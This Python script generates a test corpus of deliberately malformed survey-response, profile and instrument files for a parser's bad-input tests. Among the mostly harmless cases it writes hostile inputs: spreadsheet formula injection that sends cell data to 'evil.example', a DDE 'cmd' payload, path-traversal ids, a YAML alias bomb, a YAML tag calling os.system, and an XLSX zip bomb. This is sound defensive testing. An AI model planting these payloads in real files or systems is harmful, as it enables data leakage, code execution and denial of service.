"""Write the bad-input corpus of this folder, byte for byte the same on every run.

    .venv/bin/python tests/data/bad/make_corpus.py

Every file is small and holds one thing wrong (README.md lists them with the error each
must give). The script also writes ``tests/data/equivalent/``: the good example written
the ways other tools and people write it, each of which must read exactly like it
(that folder's README lists them). Responses files are the mini instrument's (``tests/data/mini.yaml``) good
example with one cell, line or byte spoiled; profiles, instrument, playbook and target
files are judged beside that good example. Binary formats (XLSX, Parquet) are written
with fixed timestamps so that re-running this script changes nothing under git.

The enormous-cell cases are not here: they are made at test time by
``tests/test_bad_inputs.py`` so that no large file is committed.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import random
import re
import zipfile
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq

HERE = Path(__file__).resolve().parent
DATA = HERE.parent
EQUIVALENT = DATA / "equivalent"

HEADER = ["org_id", "respondent_id", "role", "P1", "P2", "P3", "P4", "P5", "R1", "R2", "T1", "T2", "K1", "K2"]
GOOD = [
    ["X", "a1", "agent", "4", "2", "NA", "5", "", "3", "", "1", "2", "5", "4"],
    ["X", "a2", "agent", "2", "5", "3", "", "", "4", "4", "2", "", "3", "3"],
    ["X", "m1", "manager", "5", "", "4", "4", "2", "5", "5", "3", "3", "4", ""],
]
FIXED_TIME = dt.datetime(2024, 1, 1)


# ---------------------------------------------------------------------- helpers
def spoiled(**cells: str) -> list[list[str]]:
    """The good rows with cells replaced: ``spoiled(r3_P1="6")`` sets row 3 (file row), column P1."""
    rows = [list(r) for r in GOOD]
    for key, value in cells.items():
        row, column = key.split("_", 1)
        rows[int(row[1:]) - 2][HEADER.index(column)] = value
    return rows


def csv_text(rows: list[list[str]], header: list[str] = HEADER, delimiter: str = ",") -> str:
    def quote(cell: str) -> str:
        if any(ch in cell for ch in (delimiter, '"', "\n", "\r")):
            return '"' + cell.replace('"', '""') + '"'
        return cell

    return "".join(delimiter.join(quote(c) for c in line) + "\n" for line in [header, *rows])


def numeric(value: str) -> object:
    return int(value) if value.isdigit() else (value or None)


def xlsx_bytes(
    rows: list[list[object]],
    *,
    title: str = "Responses",
    formulas: dict[str, str] | None = None,
    edit=None,
    sheets: dict[str, list[list[object]]] | None = None,
) -> bytes:
    """A workbook: ``rows`` on sheet ``title`` (or several ``sheets``), ``edit(ws)`` applied to each."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, content in (sheets or {title: rows}).items():
        ws = wb.create_sheet(name)
        for row in content:
            ws.append(row)
        if edit:
            edit(ws)
    ws = wb[title] if title in wb.sheetnames else wb.worksheets[0]
    for ref, formula in (formulas or {}).items():
        ws[ref] = formula  # stored as a formula with no cached result, as openpyxl writes it
    wb.properties.creator = "make_corpus.py"
    buf = io.BytesIO()
    wb.save(buf)
    return _fixed_zip(buf.getvalue())


def zip_bomb(unpacked_mb: int) -> bytes:
    """The good workbook with its sheet padded by empty rows until it unpacks to ``unpacked_mb`` MB."""
    good = xlsx_bytes([HEADER, *[[numeric(c) if j >= 3 else c for j, c in enumerate(r)] for r in GOOD]])
    filler = b'<row r="1"/>' * 4096
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            member = zipfile.ZipInfo(info.filename, date_time=FIXED_TIME.timetuple()[:6])
            member.compress_type = zipfile.ZIP_DEFLATED
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(member, content)
                continue
            head, tail = content.split(b"</sheetData>")
            with dst.open(member, "w", force_zip64=True) as fh:
                fh.write(head)
                for _ in range(unpacked_mb * 1_000_000 // len(filler)):
                    fh.write(filler)
                fh.write(b"</sheetData>" + tail)
    return out.getvalue()


def _fixed_zip(data: bytes) -> bytes:
    """The same archive with fixed timestamps, so the bytes do not depend on the clock."""
    stamp = FIXED_TIME.strftime("%Y-%m-%dT%H:%M:%SZ").encode()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                content = re.sub(
                    rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(<)", rb"\g<1>" + stamp + rb"\g<2>", content
                )
            fixed = zipfile.ZipInfo(info.filename, date_time=FIXED_TIME.timetuple()[:6])
            fixed.compress_type = zipfile.ZIP_DEFLATED
            fixed.external_attr = 0o600 << 16
            dst.writestr(fixed, content)
    return out.getvalue()


def parquet_bytes(table: pa.Table) -> bytes:
    buf = io.BytesIO()
    pq.write_table(table, buf, compression="snappy")
    return buf.getvalue()


def good_table(**override: pa.Array) -> pa.Table:
    """The good responses as a Parquet table (answers int64), some columns replaced."""
    columns = {}
    for j, name in enumerate(HEADER):
        values = [r[j] for r in GOOD]
        if j < 3:
            columns[name] = pa.array(values, pa.string())
        else:
            columns[name] = pa.array([int(v) if v.isdigit() else None for v in values], pa.int64())
    columns.update(override)
    return pa.table(columns)


# ---------------------------------------------------------------------- the corpus
def corpus() -> dict[str, bytes]:
    rng = random.Random(8)  # issue 8
    good_csv = csv_text(GOOD)
    files: dict[str, str | bytes] = {}

    # --- responses, CSV
    files["empty.csv"] = b""
    files["blank_lines.csv"] = b"\n  \r\n\t\n"
    files["header_only.csv"] = csv_text([])
    garbage = bytearray(rng.randbytes(512))
    garbage[7] = 0  # a NUL early on, as in any binary format
    files["binary_garbage.csv"] = bytes(garbage)
    files["utf16.csv"] = good_csv.encode("utf-16")
    files["latin1.csv"] = csv_text(spoiled(r3_respondent_id="Zoë")).encode("latin-1")
    lines = good_csv.splitlines(keepends=True)
    files["mixed_delimiters.csv"] = lines[0] + lines[1].replace(",", ";") + "".join(lines[2:])
    files["duplicate_columns.csv"] = csv_text(GOOD, header=HEADER[:-1] + ["P1"])
    files["duplicate_respondent.csv"] = csv_text(spoiled(r4_respondent_id="a1", r4_role="agent", r4_P5=""))
    files["answer_out_of_range.csv"] = csv_text(spoiled(r3_P1="6"))
    files["answer_float.csv"] = csv_text(spoiled(r2_R1="3.5"))
    files["answer_unknown_label.csv"] = csv_text(spoiled(r4_T1="Sometimes"))
    files["answer_infinite.csv"] = csv_text(spoiled(r2_K1="inf"))
    files["answer_huge_number.csv"] = csv_text(spoiled(r3_K2="99999999999999999999999"))
    files["unknown_role.csv"] = csv_text(spoiled(r3_role="boss"))
    files["org_id_dotdot.csv"] = csv_text(spoiled(r2_org_id="../X"))
    files["org_id_slash.csv"] = csv_text(spoiled(r3_org_id="X/EMEA"))
    files["org_id_backslash.csv"] = csv_text(spoiled(r4_org_id="C:\\X"))
    files["respondent_id_traversal.csv"] = csv_text(spoiled(r2_respondent_id="../a1"))
    files["org_id_control_char.csv"] = csv_text(spoiled(r2_org_id="X\x1b[31m"))
    files["org_id_too_long.csv"] = csv_text(spoiled(r3_org_id="X" * 201))
    files["org_id_empty.csv"] = csv_text(spoiled(r4_org_id=""))
    files["formula_hyperlink_answer.csv"] = csv_text(
        spoiled(r2_P4='=HYPERLINK("http://evil.example/?leak="&A2,"Click")')
    )
    files["formula_cmd_answer.csv"] = csv_text(spoiled(r3_R2="+cmd|' /C calc'!A0"))
    files["formula_org_id.csv"] = csv_text(spoiled(r2_org_id='=HYPERLINK("http://evil.example","X")'))
    files["formula_org_id_plain.csv"] = csv_text(spoiled(r3_org_id="=1+2"))
    files["formula_respondent_id.csv"] = csv_text(spoiled(r4_respondent_id="@SUM(A1:A9)"))
    files["missing_role_column.csv"] = csv_text([r[:2] + r[3:] for r in GOOD], header=HEADER[:2] + HEADER[3:])
    files["no_item_columns.csv"] = "org_id,respondent_id,role,Q1\nX,a1,agent,3\n"
    files["unnamed_column.csv"] = "org_id,respondent_id,role,P1,,R1\nX,a1,agent,4,oops,3\n"
    files["unclosed_quote.csv"] = lines[0] + lines[1] + lines[2].replace("X,", 'X,"', 1) + lines[3]
    # issue 14: misread silently before, refused now
    files["misnamed_item_hyphen.csv"] = csv_text(GOOD, header=[h if h != "P1" else "P-1" for h in HEADER])
    files["misnamed_item_question_text.csv"] = csv_text(
        GOOD, header=[h if h != "P1" else "Practice one" for h in HEADER]
    )
    files["misnamed_item_newline.csv"] = csv_text(GOOD, header=[h if h != "R2" else "R\n2" for h in HEADER])
    files["org_id_case_split.csv"] = csv_text(spoiled(r3_org_id="x"))
    files["respondent_id_case_split.csv"] = csv_text(spoiled(r3_respondent_id="A1"))
    files["dimension_empty.csv"] = csv_text(spoiled(r2_T1="", r2_T2="", r3_T1="", r4_T1="", r4_T2=""))

    # --- responses, XLSX
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        info = zipfile.ZipInfo("[Content_Types].xml", date_time=FIXED_TIME.timetuple()[:6])
        z.writestr(info, rng.randbytes(300))
    files["xlsx_garbage_zip.xlsx"] = inner.getvalue()
    files["xlsx_renamed_csv.xlsx"] = good_csv
    typed = [[numeric(c) if j >= 3 else c for j, c in enumerate(r)] for r in GOOD]
    files["xlsx_truncated.xlsx"] = xlsx_bytes([HEADER, *typed])[:700]
    files["xlsx_out_of_range.xlsx"] = xlsx_bytes(
        [HEADER, *[[numeric(c) if j >= 3 else c for j, c in enumerate(r)] for r in spoiled(r3_P2="7")]]
    )
    files["xlsx_unknown_role.xlsx"] = xlsx_bytes(
        [HEADER, *[[numeric(c) if j >= 3 else c for j, c in enumerate(r)] for r in spoiled(r4_role="Director")]]
    )
    files["xlsx_formula_unsaved.xlsx"] = xlsx_bytes(
        [HEADER, *typed], formulas={"K2": '=HYPERLINK("http://evil.example","4")'}
    )
    files["xlsx_empty_sheet.xlsx"] = xlsx_bytes([])
    files["xlsx_header_only.xlsx"] = xlsx_bytes([HEADER])
    beyond = [list(r) for r in typed]
    beyond[1] = beyond[1] + [None, "stray note"]
    files["xlsx_value_beyond_header.xlsx"] = xlsx_bytes([HEADER, *beyond])
    files["xlsx_duplicate_columns_case.xlsx"] = xlsx_bytes([HEADER[:-1] + ["p1"], *typed])
    files["xlsx_merged_answers.xlsx"] = xlsx_bytes([HEADER, *typed], edit=lambda ws: ws.merge_cells("D3:E3"))
    files["xlsx_hidden_row.xlsx"] = xlsx_bytes(
        [HEADER, *typed], edit=lambda ws: setattr(ws.row_dimensions[3], "hidden", True)
    )
    files["xlsx_hidden_column.xlsx"] = xlsx_bytes(
        [HEADER, *typed], edit=lambda ws: setattr(ws.column_dimensions["E"], "hidden", True)
    )
    files["xlsx_two_header_sheets.xlsx"] = xlsx_bytes(
        [], title="Site A", sheets={"Site A": [HEADER, *typed], "Site B": [HEADER, *typed[:2]]}
    )
    files["xlsx_instructions_only.xlsx"] = xlsx_bytes(
        [],
        title="Instructions",
        sheets={"Instructions": [["Fill in one row per respondent."]], "Notes": [["who", "when"]]},
    )
    files["xlsx_zip_bomb.xlsx"] = zip_bomb(250)
    dated = [list(r) for r in typed]
    dated[0][HEADER.index("K1")] = dt.datetime(2024, 1, 5)
    files["xlsx_date_answer.xlsx"] = xlsx_bytes([HEADER, *dated])

    # --- responses, JSON
    records = [{h: numeric(c) if j >= 3 else c for j, (h, c) in enumerate(zip(HEADER, r))} for r in GOOD]
    files["json_not_list.json"] = json.dumps(records[0], indent=1)
    files["json_scalar.json"] = "42\n"
    files["json_list_of_lists.json"] = json.dumps([HEADER, *GOOD])
    nested = [dict(r) for r in records]
    nested[1]["P1"] = {"value": 4}
    files["json_nested_cell.json"] = json.dumps(nested, indent=1)
    files["json_invalid.json"] = json.dumps(records, indent=1)[:90]
    files["json_empty_list.json"] = "[]\n"
    zero = [dict(r) for r in records]
    zero[2]["R1"] = 0
    files["json_out_of_range.json"] = json.dumps(zero, indent=1)
    files["json_duplicate_key.json"] = (
        '[{"org_id": "X", "respondent_id": "a1", "role": "agent", "P1": 4, "P2": 2, "P1": 5}]\n'
    )
    files["json_nan.json"] = json.dumps(records, indent=1).replace('"P1": 2', '"P1": NaN', 1)
    boolean = [dict(r) for r in records]
    boolean[0]["T1"] = True
    files["json_bool_answer.json"] = json.dumps(boolean, indent=1)

    # --- responses, Parquet
    files["parquet_garbage.parquet"] = b"PAR1" + rng.randbytes(400) + b"PAR1"
    files["parquet_truncated.parquet"] = parquet_bytes(good_table())[:300]
    files["parquet_float_answers.parquet"] = parquet_bytes(good_table(P1=pa.array([3.5, 2.0, 5.0], pa.float64())))
    files["parquet_timestamp_column.parquet"] = parquet_bytes(
        good_table(R1=pa.array([FIXED_TIME, None, None], pa.timestamp("s")))
    )
    files["parquet_nested_column.parquet"] = parquet_bytes(
        good_table(T1=pa.array([[1], [2, 3], []], pa.list_(pa.int64())))
    )
    files["parquet_binary_org_id.parquet"] = parquet_bytes(
        good_table(org_id=pa.array([b"X", b"\xff\xfe", b"X"], pa.binary()))
    )
    files["parquet_no_rows.parquet"] = parquet_bytes(good_table().slice(0, 0))

    # --- profiles (judged beside tests/data/mini_responses.csv, organization X)
    prof_header = "org_id,org_name,industry,agents,stage"
    files["profiles_no_match.csv"] = f"{prof_header}\nZZZ,Nobody Inc,technology,40,considering\n"
    files["profiles_duplicate_org.csv"] = (
        f"{prof_header}\nX,Example,technology,40,considering\nX,Example again,technology,40,considering\n"
    )
    files["profiles_bad_stage.csv"] = f"{prof_header}\nX,Example,technology,40,ready\n"
    files["profiles_bad_agents.csv"] = f"{prof_header}\nX,Example,technology,many,considering\n"
    files["profiles_bad_size_band.csv"] = "org_id,size_band\nX,huge\n"
    files["profiles_kpi_out_of_range.csv"] = "org_id,abandon_rate\nX,150\n"
    files["profiles_org_traversal.csv"] = (
        f"{prof_header}\nX,Example,technology,40,considering\n../Y,Sneaky,technology,40,considering\n"
    )
    files["profiles_empty.csv"] = b""
    files["profiles_missing_org_id.csv"] = "id,org_name\nX,Example\n"
    files["profiles_renamed_csv.xlsx"] = f"{prof_header}\nX,Example,technology,40,considering\n"
    files["profiles_header_only.csv"] = prof_header + "\n"
    files["profiles_unknown_industry.csv"] = f"{prof_header}\nX,Example,retail,40,considering\n"
    files["profiles_rate_fraction.csv"] = "org_id,first_call_resolution\nX,0.85\n"
    files["profiles_agents_fraction.csv"] = f"{prof_header}\nX,Example,technology,120.5,considering\n"
    files["profiles_agents_infinite.csv"] = f"{prof_header}\nX,Example,technology,inf,considering\n"
    files["profiles_band_contradicts_agents.csv"] = "org_id,agents,size_band\nX,400,<=50\n"
    files["profiles_org_case_split.csv"] = f"{prof_header}\nx,Example,technology,40,considering\n"
    files["profiles_latin1.csv"] = f"{prof_header}\nX,Société Générale,financial_services,40,considering\n".encode(
        "latin-1"
    )

    # --- instruments (judged with tests/data/mini_responses.csv)
    mini = (DATA / "mini.yaml").read_text(encoding="utf-8")
    files["instrument_duplicate_item.yaml"] = mini.replace("{id: R2, text: Process two", "{id: R1, text: Process two")
    files["instrument_empty.yaml"] = "# nothing but a comment\n"
    files["instrument_not_mapping.yaml"] = "- people\n- process\n"
    files["instrument_invalid_yaml.yaml"] = mini.replace(
        "roles: {agent: 1.0, manager: 2.0}", "roles: {agent: 1.0, manager: 2.0"
    )
    files["instrument_latin1.yaml"] = mini.replace(
        "title: Mini instrument for tests", "title: Instrument für Tests"
    ).encode("latin-1")
    files["instrument_unknown_role.yaml"] = mini.replace(
        "{id: T2, text: Tech two, label_set: agreement, roles: [agent, manager]}",
        "{id: T2, text: Tech two, label_set: agreement, roles: [agent, boss]}",
    )
    files["instrument_label_set_not_list.yaml"] = mini.replace(
        "agreement: [Strongly disagree, Disagree, Neutral, Agree, Strongly agree]", "agreement: 5"
    )
    files["instrument_label_set_unhashable.yaml"] = mini.replace(
        "label_set: agreement, reverse", "label_set: [agreement], reverse"
    )
    files["instrument_scale_too_large.yaml"] = mini.replace("scale_points: 5", "scale_points: 1000")
    files["instrument_binary.yaml"] = bytes(garbage)
    bomb = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for n in range(1, 10):
        bomb.append(f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 9) + "]")
    files["instrument_yaml_bomb.yaml"] = "\n".join(bomb) + "\n"
    files["instrument_python_tag.yaml"] = mini.replace(
        "title: Mini instrument for tests", 'title: !!python/object/apply:os.system ["echo pwned"]'
    )
    files["instrument_unknown_dimension.yaml"] = mini.replace(
        "  - id: knowledge\n    title: Knowledge", "  - id: sales\n    title: Sales"
    )

    # --- playbooks (judged against tests/data/mini.yaml)
    book = (DATA / "mini_playbook.yaml").read_text(encoding="utf-8")
    files["playbook_cycle.yaml"] = book.replace(
        "    owner: center_manager\n", "    owner: center_manager\n    depends_on: [crm]\n", 1
    )
    files["playbook_unknown_facet.yaml"] = book.replace(
        "facets: [people.a, people.b]", "facets: [people.a, people.zzz]"
    )
    files["playbook_self_dependency.yaml"] = book.replace(
        "    owner: center_manager\n", "    owner: center_manager\n    depends_on: [goals]\n", 1
    )
    files["playbook_empty.yaml"] = b""
    files["playbook_not_mapping.yaml"] = "just a sentence\n"
    files["playbook_unknown_effort.yaml"] = book.replace(
        "    effort: M\n    duration_weeks: 8", "    effort: XXL\n    duration_weeks: 8"
    )
    files["playbook_unknown_dependency.yaml"] = book.replace(
        "    owner: training\n", "    owner: training\n    depends_on: [magic]\n"
    )

    # --- target profiles (judged against tests/data/mini.yaml)
    files["targets_unknown_facet.csv"] = "facet,target\npeople.a,80\npeople.zzz,70\n"
    files["targets_out_of_range.yaml"] = "people.a: 80\npeople.b: 180\n"
    files["targets_not_number.csv"] = "facet,target\npeople.a,high\n"

    return {name: content.encode("utf-8") if isinstance(content, str) else content for name, content in files.items()}


def equivalent() -> dict[str, bytes]:
    """The good example written other ways: each file must read exactly like it."""
    files: dict[str, str | bytes] = {}
    rows = [list(r) for r in GOOD]
    numerals = [list(r) for r in rows]
    numerals[0][3], numerals[0][4], numerals[0][8] = "4.0", "+2", "03"
    numerals[1][3], numerals[1][4], numerals[1][12] = "\uff12", "5.00", "3."
    files["numerals.csv"] = csv_text(numerals)
    labels = [list(r) for r in rows]
    labels[0][3], labels[0][6], labels[0][12] = "agree", "EMBEDDED", "Strongly  agree"
    labels[1][4], labels[1][8], labels[2][8] = " Strongly\u00a0agree ", "Agree", "strongly agree"
    labels[0][5] = "n/a"
    files["labels.csv"] = csv_text(labels)
    ids = [list(r) for r in rows]
    ids[0][0], ids[1][0], ids[2][0] = "X\u200b", " X ", "\uff38"
    ids[0][1], ids[2][2] = "a1\ufeff", " Manager "
    files["ids_invisible.csv"] = csv_text(ids)
    files["title_line.csv"] = "Readiness survey export,,\n\n" + csv_text(rows)
    files["header_trailing_newline.csv"] = csv_text(rows, header=[h if h != "K2" else "K2\n" for h in HEADER])
    files["semicolons_bom_crlf.csv"] = "\ufeff" + csv_text(rows, delimiter=";").replace("\n", "\r\n")
    typed = [[numeric(c) if j >= 3 else c for j, c in enumerate(r)] for r in rows]
    as_floats = [[float(c) if isinstance(c, int) else c for c in r] for r in typed]
    files["xlsx_float_answers.xlsx"] = xlsx_bytes([HEADER, *as_floats])
    files["xlsx_instructions_first.xlsx"] = xlsx_bytes(
        [],
        title="Data",
        sheets={"Instructions": [["One row per respondent."], ["Answers 1 to 5."]], "Data": [HEADER, *typed]},
    )
    files["xlsx_title_rows.xlsx"] = xlsx_bytes(
        [["Readiness survey, May"], [None], HEADER, *typed], edit=lambda ws: ws.merge_cells("A1:F1")
    )
    wrong = xlsx_bytes([HEADER, *typed])
    files["xlsx_wrong_dimension.xlsx"] = _declare(wrong, "A1:C2")
    records = [{h: c for h, c in zip(HEADER, r)} for r in numerals]
    files["json_text_numerals.json"] = json.dumps(records, indent=1, ensure_ascii=False)
    return {name: content.encode("utf-8") if isinstance(content, str) else content for name, content in files.items()}


def _declare(workbook: bytes, ref: str) -> bytes:
    """The workbook with a wrong size declared in its sheet (as some tools write it)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                content = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{ref}"'.encode(), content)
            dst.writestr(info, content)
    return out.getvalue()


def main() -> None:
    for name, content in corpus().items():
        (HERE / name).write_bytes(content)
    print(f"wrote {len(corpus())} files to {HERE}")
    EQUIVALENT.mkdir(exist_ok=True)
    for name, content in equivalent().items():
        (EQUIVALENT / name).write_bytes(content)
    print(f"wrote {len(equivalent())} files to {EQUIVALENT}")


if __name__ == "__main__":
    main()
